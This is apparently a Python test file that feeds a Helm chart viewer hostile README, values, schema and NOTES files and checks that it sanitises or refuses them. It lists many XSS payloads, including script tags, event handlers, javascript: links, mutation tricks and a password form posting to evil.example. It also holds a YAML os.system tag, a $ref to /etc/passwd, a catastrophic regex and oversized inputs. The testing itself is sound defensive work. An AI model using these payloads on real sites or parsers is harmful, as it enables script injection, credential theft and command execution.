"""Archives whose README, values, schema or NOTES are hostile or odd."""

import json
import random
import re
from html.parser import HTMLParser

from app.chart_reader.json_check import can_be_shown
from tests.chart_reader.hostile_kind import HostileArchive, chart_with, later, refused, stored

ACTIVE_TAGS = frozenset(
    "script iframe object embed style svg math form input link meta base template".split()  # noqa: SIM905
)
# Beside handlers: what reaches into the page that shows the README.
ACTIVE_ATTRIBUTES = frozenset(("style", "srcdoc", "action", "formaction", "id", "name", "http-equiv"))
ACTIVE_URL = re.compile(r"[\s\x00-\x20]*(javascript|vbscript|data)\s*:", re.IGNORECASE)


class _ActiveParts(HTMLParser):
    """Finds what may run, or load a document, as a browser would see it: tags and attributes, not words."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE_TAGS:
            self.found.append(tag)
        for attribute, value in attrs:
            url = attribute in ("href", "src") and ACTIVE_URL.match(value or "")
            styling = attribute == "class" and not (value or "").startswith("language-")
            if attribute.startswith("on") or attribute in ACTIVE_ATTRIBUTES or url or styling:
                self.found.append(f"{tag} {attribute}={value}")


def active_parts(html: str) -> list[str]:
    """None is in what Chartroom shows."""
    parser = _ActiveParts()
    parser.feed(html)
    parser.close()
    return parser.found


def _noise_text(size_bytes: int) -> str:
    """Text that packs no better than 2:1, so that it meets the bound of its file before that of the ratio."""
    return random.Random(3).randbytes(size_bytes // 2 + 1).hex()[:size_bytes]


def _readme(label: str, text: str | bytes) -> HostileArchive:
    return _file(f"readme-{label}", "README.md", text, lambda c: c.readme_markdown is not None)


def _file(label: str, path: str, content: str | bytes, holds: object = None) -> HostileArchive:
    return stored(label, later(chart_with, {path: content}), holds or (lambda c: True))  # type: ignore[arg-type]


HOSTILE_READMES = {
    "script": "<script>alert(1)</script>",
    "script-upper-case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "handler": '<img src=x onerror="alert(1)">',
    "handler-slash": "<img/src=x/onerror=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "javascript-link": "[a](javascript:alert(1))",
    "javascript-link-entities": "[a](&#106;avascript&#58;alert(1))",
    "javascript-link-spaces": '<a href=" java\nscript:alert(1)">a</a>',
    "javascript-autolink": "<javascript:alert(1)>",
    "javascript-reference": "[a][b]\n\n[b]: javascript:alert(1)",
    "vbscript-link": '<a href="vbscript:x">a</a>',
    "data-html-link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data-html-image": '<img src="data:text/html,<script>alert(1)</script>">',
    "data-svg-image": "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    "svg-onload": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "math-mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="https://evil.example"><input name=password></form>',
    "style": "<style>body{display:none}</style><p style='position:fixed'>a</p>",
    "base-and-meta": '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//e">',
    "clobbering": '<p id="app" name="x" class="btn">a</p>',
    "fence-language": '```x" onmouseover="alert(1)\na\n```',
    "image-title": "![a](https://a.example/i.png \"x' onload='alert(1)\")",
    "comment-with-script": "<!-- --!> <script>alert(1)</script> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "brackets-200k": "[" * 200_000,
    "images-200k": "![" * 100_000,
    "quotes-200k": ">" * 200_000,
    "lists-200k": "- " * 100_000,
    "emphasis-200k": "*a_ " * 50_000,
    "backticks": "".join("`" * i + " " for i in range(1, 600)),
    "divs-100k": "<div>" * 20_000,
    "wide-table": "|" + "a|" * 1000 + "\n|" + "-|" * 1000 + "\n" + "|\n" * 10_000,
    "references-to-44-mb": "[x]: /" + "u" * 1000 + "\n\n" + "[x]" * 80_000,
    "entities": "&#0;&#xD800;&#x110000;&unknown;",
    "nul-bytes": b"a\0b",
    "latin-1": "größe".encode("latin-1"),
    "binary": bytes(range(256)) * 40,
    "empty": "",
    "half-a-mebibyte": "Words of **prose** and `code`.\n" * 17_000,
}

FILE_KINDS: list[HostileArchive] = [
    *(_readme(label, text) for label, text in HOSTILE_READMES.items()),
    refused(
        "readme-over-bound",
        later(chart_with, {"README.md": _noise_text(1_100_000)}),
        "TOO_LARGE",
        says="README.md",
    ),
    _file(
        "readme-of-other-case",
        "ReadMe.MD",
        "# Title",
        lambda c: c.readme_markdown == "# Title" and not c.readme_plain,
    ),
    _file("readme-as-text", "README.txt", "<b>&", lambda c: c.readme_plain and c.readme_markdown == "<b>&"),
    _file("readme-of-sub-chart-only", "charts/sub/README.md", "# Sub", lambda c: c.readme_markdown is None),
    refused("values-not-utf8", later(chart_with, {"values.yaml": b"a: \xff\n"}), says="values.yaml"),
    refused("values-utf-16", later(chart_with, {"values.yaml": "a: 1\n".encode("utf-16")}), says="values.yaml"),
    refused("values-with-nul", later(chart_with, {"values.yaml": b"a: \0\n"}), says="values.yaml"),
    refused(
        "values-over-bound",
        later(chart_with, {"values.yaml": _noise_text(4_300_000)}),
        "TOO_LARGE",
        says="values.yaml",
    ),
    _file("values-empty", "values.yaml", "", lambda c: c.values_yaml == ""),
    _file("values-no-yaml", "values.yaml", "{{ not: yaml", lambda c: c.values_yaml == "{{ not: yaml"),
    _file("values-deep", "values.yaml", "a: " + "[" * 100_000),
    _file("values-python-tag", "values.yaml", "a: !!python/object/apply:os.system [id]\n"),
    _file("values-byte-order-mark", "values.yaml", "\ufeffa: 1\n", lambda c: c.values_yaml == "a: 1\n"),
    refused("schema-not-utf8", later(chart_with, {"values.schema.json": b'{"a": "\xff"}'}), says="schema"),
    refused(
        "schema-over-bound",
        later(chart_with, {"values.schema.json": _noise_text(4_300_000)}),
        "TOO_LARGE",
        says="schema",
    ),
    *(
        _file(f"schema-{label}", "values.schema.json", text, lambda c: not can_be_shown(str(c.values_schema)))
        for label, text in [
            ("no-json", "{not json"),
            ("empty", ""),
            ("deep", "[" * 500_000),
            ("deep-closed", '{"a":' * 100_000 + "1" + "}" * 100_000),
            ("nan", '{"default": NaN}'),
            ("lone-surrogate", r'{"default": "\ud800"}'),
            ("endless-number", '{"maximum": ' + "9" * 100_000 + "}"),
        ]
    ),
    *(
        _file(
            f"schema-{label}",
            "values.schema.json",
            json.dumps(schema),
            lambda c: can_be_shown(str(c.values_schema)),
        )
        for label, schema in [
            ("remote-reference", {"$ref": "https://evil.example/schema.json"}),
            ("file-reference", {"$ref": "file:///etc/passwd"}),
            ("own-reference", {"$ref": "#"}),
            ("catastrophic-pattern", {"properties": {"a": {"pattern": "^(a+)+$"}}}),
            ("surrogate-pair", {"title": "\N{GRINNING FACE}"}),
        ]
    ),
    _file(
        "schema-wide",
        "values.schema.json",
        "[" + ",".join(f'{{"{i:x}":[]}}' for i in range(320_000)) + "]",
        lambda c: can_be_shown(str(c.values_schema)),
    ),
    _file("notes-terminal-escape", "templates/NOTES.txt", "a\x1b[2J\u202eb\n", lambda c: c.notes == "a[2Jb\n"),
    _file("notes-nul", "templates/NOTES.txt", b"a\0b", lambda c: c.notes == "a\ufffdb"),
    _file("notes-not-utf8", "templates/NOTES.txt", b"\xff", lambda c: c.notes == "\ufffd"),
    _file("template-binary", "templates/x.yaml", bytes(range(256))),
    _file("sub-chart-broken", "charts/sub/Chart.yaml", "{{{{", lambda c: c.metadata.name == "hostile"),
    _file("sub-chart-no-archive", "charts/sub-1.0.0.tgz", b"not gzip"),
    _file("chart-lock-broken", "Chart.lock", b"\xff\xfe: ["),
    _file("file-of-no-bytes", "empty", b"", lambda c: c.files[-1].size_bytes == 0),
]
